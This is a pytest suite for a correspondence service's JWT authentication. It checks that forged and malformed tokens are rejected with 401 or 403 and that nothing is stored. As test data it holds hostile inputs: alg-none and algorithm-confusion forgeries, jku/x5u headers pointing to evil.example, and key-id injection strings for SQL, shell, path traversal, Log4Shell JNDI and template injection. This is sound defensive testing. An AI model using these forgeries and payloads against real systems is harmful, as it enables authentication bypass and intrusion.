"""Tokens that nobody trusted has signed, or that say what nobody can mean: each is 401, and nothing is stored."""

import json
from collections.abc import Callable
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from jwt.algorithms import RSAAlgorithm

from config.kernel.development_issuer import KEY_ID, NAME
from correspondence.models import Mailing
from registry.models import Resource
from tests.abuse.forging import (
    HEADER,
    claims,
    encoded,
    mac,
    public_key_spellings,
    signed,
    trusted_key,
    unsigned,
    written,
)
from tests.clients import Client, problem
from tests.letters import letter

FOREIGN = rsa.generate_private_key(public_exponent=65_537, key_size=2048)
JWK = RSAAlgorithm.to_jwk(FOREIGN.public_key(), as_dict=True)

# --- nobody trusted has signed, or the trusted issuer what it never would --------------------------------------------

ALGORITHMS: list[Any] = ["none", "None", "NONE", "nOnE", "none ", "", None, [], {}, 0, ["RS256"], "rs256", "RS256 "]

# A key that comes along is not looked at, nor where it is said to be.
HEADERS: dict[str, dict[str, Any]] = {
    "the same key id": {},
    "no key id": {"kid": None},
    "a key": {"jwk": {**JWK, "kid": KEY_ID}},
    "a key's address": {"jku": "https://evil.example/jwks.json"},
    "a certificate": {"x5c": ["MIIB"]},
    "a certificate's address": {"x5u": "https://evil.example/cert.pem"},
    "a thumbprint": {"x5t": "AAAA", "x5t#S256": "AAAA"},
}
KEY_IDS = [
    "../../../../../../dev/null",
    "/dev/null",
    "file:///proc/self/environ",
    "https://evil.example/jwks.json",
    "' OR 1=1 --",
    "x' UNION SELECT 'secret",
    "| sleep 10",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "development\x00",
    "\x00",
    " development",
    "Development",
    "ｄevelopment",
    "developmen\u0074\u0301",
    "d" * 5000,
    "",
    0,
    True,
    None,
    [KEY_ID],
    {"kid": KEY_ID},
]
IN_2100 = 4_102_444_800
MOMENTS = [0, -1, -(10**30), 1.5, "", "x", "1e400", None, [], {}, [IN_2100], {"exp": IN_2100}]
RAW_MOMENTS = [b"NaN", b"Infinity", b"-Infinity", b"1e400", b"-1e400", b"-0.0", b"9" * 5000]
FUTURE = [IN_2100, 10**30, "x", None, [], {}]


def forged(issuer: str) -> dict[str, str]:
    """By name: tokens that claim to be this issuer's, and would be good if they were."""
    good = claims(iss=issuer)
    return {**unsigned_or_foreign(good), **other_shapes(good), **signed_nonsense(issuer)}


def unsigned_or_foreign(good: dict[str, Any]) -> dict[str, str]:
    """Without a signature, or with one of a key that nobody trusts."""
    none = {f"alg {alg!r}": unsigned({**HEADER, "alg": alg}, good) + "." for alg in ALGORITHMS}
    none["no alg"] = unsigned({"typ": "JWT", "kid": KEY_ID}, good) + "."
    none["alg none with a signature"] = unsigned({**HEADER, "alg": "none"}, good) + "." + signed(good).split(".")[2]
    confused = {
        f"{alg} with {name}": mac(good, secret, alg)
        for name, secret in public_key_spellings().items()
        for alg in ("HS256", "HS384", "HS512")
    }
    brought_along = {name: signed(good, {**HEADER, **header}, FOREIGN) for name, header in HEADERS.items()}
    injected = {
        f"key id {str(kid)[:30]!r} {number}": signed(good, {**HEADER, "kid": kid}, FOREIGN)
        for number, kid in enumerate(KEY_IDS)
    }
    return {**none, **confused, **brought_along, **injected}


def other_shapes(good: dict[str, Any]) -> dict[str, str]:
    """What is no token of one signature over claims."""
    return {
        "a token in a token": signed(written(signed(good).encode()), {**HEADER, "cty": "JWT"}),
        "encrypted": unsigned({"alg": "RSA-OAEP", "enc": "A256GCM"}, b"a") + ".b.c.d",
        "JSON serialisation": json.dumps({"payload": encoded(written(good)), "signatures": []}).replace(" ", ""),
        "two parts": unsigned(HEADER, good),
        "four parts": signed(good) + ".x",
        "a signature of nothing": unsigned(HEADER, good) + "." + encoded(b"\x00"),
        "a signature of zeros": unsigned(HEADER, good) + "." + encoded(b"\x00" * 256),
        "a header that is a list": signed(good, [HEADER]),
        "a header that is null": signed(good, None),
        "a header of junk": signed(good, b"{"),
        "a header that is not UTF-8": signed(good, b'{"alg": "RS256", "x": "\xff"}'),
        "a nested header": signed(good, b'{"alg": "RS256", "x": ' + b"[" * 3000 + b"}"),
        "critical, and unknown": signed(good, {**HEADER, "crit": ["exp2"], "exp2": 1}),
        "critical, and nothing": signed(good, {**HEADER, "crit": []}),
        "critical, and no list": signed(good, {**HEADER, "crit": "exp"}),
        "an unencoded body": signed(good, {**HEADER, "b64": False, "crit": ["b64"]}),
        "an unencoded body that is not critical": signed(good, {**HEADER, "b64": False}),
    }


def signed_nonsense(issuer: str) -> dict[str, str]:
    """What the trusted issuer has signed, and never would."""
    good = claims(iss=issuer)
    payloads: dict[str, Any] = {
        "no object": [good],
        "null": None,
        "a text": "claims",
        "junk": b"{",
        "not UTF-8": b'{"iss": "\xff"}',
        "nested": b'{"iss": "' + issuer.encode() + b'", "x": ' + b"[" * 3000 + b"]" * 3000 + b', "exp": "never"}',
        "no expiry": {name: value for name, value in good.items() if name != "exp"},
        "two expiries, the last is over": json.dumps(good)[:-1].encode() + b', "exp": 1}',
        "two issuers, the last is another": json.dumps(good)[:-1].encode() + b', "iss": "https://evil.example/"}',
    }
    return {
        **{name: signed(payload) for name, payload in payloads.items()},
        **{f"exp {str(value)[:20]!r} {n}": signed(claims(iss=issuer, exp=value)) for n, value in enumerate(MOMENTS)},
        **{f"exp {raw[:20]!r}": signed(replaced(issuer, "exp", raw)) for raw in RAW_MOMENTS},
        **{f"nbf {str(value)[:20]!r} {n}": signed(claims(iss=issuer, nbf=value)) for n, value in enumerate(FUTURE)},
        **{f"nbf {raw[:20]!r}": signed(replaced(issuer, "nbf", raw)) for raw in (b"NaN", b"Infinity", b"1e400")},
    }


def replaced(issuer: str, name: str, raw: bytes) -> bytes:
    """The claims with one written by hand."""
    text = json.dumps(claims(iss=issuer, **{name: 0}))
    return text.encode().replace(f'"{name}": 0'.encode(), f'"{name}": '.encode() + raw)


NAMES = [
    NAME.upper(),
    NAME.rstrip("/"),
    NAME + "/",
    NAME + " ",
    " " + NAME,
    NAME + "\n",
    NAME + "\x00",
    NAME + "?",
    NAME + "#",
    NAME.replace("https", "http"),
    NAME.replace("https", "HTTPS"),
    NAME.replace("e", "\u0435"),  # Cyrillic
    NAME.replace("d", "\uff44", 1),  # full width
    NAME.replace(".invalid", "\u3002invalid"),
    NAME.replace("development", "development\u200b"),
    NAME.replace("https://", "https://evil.example@"),
    "*",
    "",
    None,
    0,
    True,
    [NAME],
    {NAME: NAME},
]
LOOK_ALIKES = {f"issuer {n}": signed(claims(iss=name)) for n, name in enumerate(NAMES)}

OWNER_CODE = "fjordby"
FORGED, FORGED_FOR_OWNER = {**forged(NAME), **LOOK_ALIKES}, forged(OWNER_CODE)


def test_what_they_are_made_of_is_believed_as_it_should_be(resource: Resource) -> None:
    """Or each refusal below would prove nothing."""
    assert Client(signed(claims())).post(letter()).status_code == 200
    assert Client(PlatformAccessToken=signed(claims(iss=OWNER_CODE))).post(letter()).status_code == 200


@pytest.mark.parametrize("name", FORGED)
def test_a_forged_token_is_401(resource: Resource, name: str) -> None:
    response = Client(Authorization=f"Bearer {FORGED[name]}").post(letter())

    assert problem(response) == (401, None)
    assert response["WWW-Authenticate"] == 'Bearer error="invalid_token"'
    assert not Mailing.objects.exists()


# To a platform issuer that speaks for every owner, as that of development does, these are codes of nobody.
CODES_OF_NOBODY = {"two issuers, the last is another", *LOOK_ALIKES}


@pytest.mark.parametrize("name", [name for name in FORGED if name not in CODES_OF_NOBODY])
def test_a_forged_platform_token_is_401_and_beside_a_good_bearer_403(resource: Resource, name: str) -> None:
    alone = Client(PlatformAccessToken=FORGED_FOR_OWNER[name])
    beside = Client(signed(claims()), PlatformAccessToken=FORGED_FOR_OWNER[name])

    assert problem(alone.post(letter())) == (401, None)
    assert problem(beside.post(letter())) == (403, None)
    assert not Mailing.objects.exists()


@pytest.mark.parametrize("name", sorted(CODES_OF_NOBODY))
def test_a_platform_token_of_nobody_has_no_access(resource: Resource, name: str) -> None:
    alone = Client(PlatformAccessToken=FORGED[name])
    beside = Client(signed(claims()), PlatformAccessToken=FORGED[name])

    assert problem(alone.post(letter()))[0] == 401
    assert problem(beside.post(letter()))[0] in (401, 403)
    assert not Mailing.objects.exists()


@pytest.mark.parametrize(
    "scheme", ["", "Basic ", "Token ", "JWT ", "Bearer", "Bearer:", "DPoP ", "bearer bearer ", '"Bearer" ']
)
def test_a_good_token_under_another_scheme_is_401(resource: Resource, scheme: str) -> None:
    assert problem(Client(Authorization=f"{scheme}{signed(claims())}").post(letter())) == (401, None)
    assert not Mailing.objects.exists()


@pytest.mark.parametrize("header", ["X-Authorization", "Proxy-Authorization", "X-Api-Key", "Cookie", "X-Access-Token"])
def test_a_good_token_in_another_header_is_401(resource: Resource, header: str) -> None:
    client = Client(**{header: f"Bearer {signed(claims())}"})

    assert problem(client.post(letter())) == (401, None)
    assert not Mailing.objects.exists()


@pytest.mark.parametrize("name", ["access_token", "token", "authorization", "PlatformAccessToken"])
def test_a_good_token_in_the_query_is_401(resource: Resource, name: str) -> None:
    path = f"/correspondence?{name}={signed(claims())}"

    assert problem(Client().call("POST", path, json.dumps(letter()).encode())) == (401, None)
    assert not Mailing.objects.exists()


# --- claims of a good token that cannot be meant ---------------------------------------------------------------------

JUNK: list[Any] = [
    None, True, 0, -1, 312295202, 10**30, 1.5, "", " ", "\x00", "x" * 2000, "٣١٢٢٩٥٢٠٢", [], {}, [[]], [None],
    {"ID": None}, {"ID": ["0192:312295202"]}, {"ID": {"ID": "x"}}, "{", "[" * 2000, '{"ID": 1}', "0192:312295202\n",
    "312295202 ",
]  # fmt: skip
READ = [
    "urn:altinn:orgNumber", "consumer", "authorization_details", "pid", "urn:altinn:partyid", "urn:altinn:authlevel",
    "scope", "c", "p", "a", "s", "l", "i", "y", "sub", "jti", "aud", "iat",
]  # fmt: skip


@pytest.mark.parametrize("name", READ)
def test_a_claim_of_the_wrong_type_opens_nothing_and_breaks_nothing(
    resource: Resource, other_resource: Resource, name: str
) -> None:
    """Somebody without any right beside the claim: what it holds gives none."""
    bare = {key: value for key, value in claims().items() if key != "urn:altinn:orgNumber"}

    for value in JUNK:
        response = Client(signed({**bare, name: value})).post(letter())
        assert response.status_code in (401, 403), value
    assert not Mailing.objects.exists()


@pytest.mark.parametrize("kind", ["c", "p", "a", "s", "l", "i"])
def test_nor_does_one_of_a_dialog_token(resource: Resource, dialog_token: Callable[..., str], kind: str) -> None:
    letter_id = "01a20f95-3f06-7124-bbc9-1984be01f9d1"

    for value in JUNK:
        response = Client(dialog_token({"a": "read", "p": "x", kind: value})).overview(letter_id)
        assert response.status_code in (401, 403, 404), value


def test_ten_thousand_scopes_are_no_more_than_those_they_name(resource: Resource) -> None:
    scope = " ".join(f"altinn:correspondence.write{number}" for number in range(10_000))

    assert problem(Client(signed(claims(scope=scope))).post(letter())) == (403, None)
    assert not Mailing.objects.exists()


def test_a_token_of_a_megabyte_is_answered(resource: Resource) -> None:
    """Only where the server's own limit on fields is not asked; there it is 431."""
    assert problem(Client(signed(claims(x="x" * 1_000_000), key=FOREIGN)).post(letter())) == (401, None)
    assert not Mailing.objects.exists()


@pytest.mark.parametrize("separator", ["\t", "\n", ",", ";", "\u00a0", "%20", "+"])
def test_a_scope_is_parted_by_blanks_alone(resource: Resource, separator: str) -> None:
    scope = f"x{separator}altinn:correspondence.write{separator}y"

    assert problem(Client(signed(claims(scope=scope))).post(letter())) == (403, None)


def test_the_key_is_that_of_the_issuer_it_signs_for(resource: Resource) -> None:
    assert trusted_key().public_key() != FOREIGN.public_key()
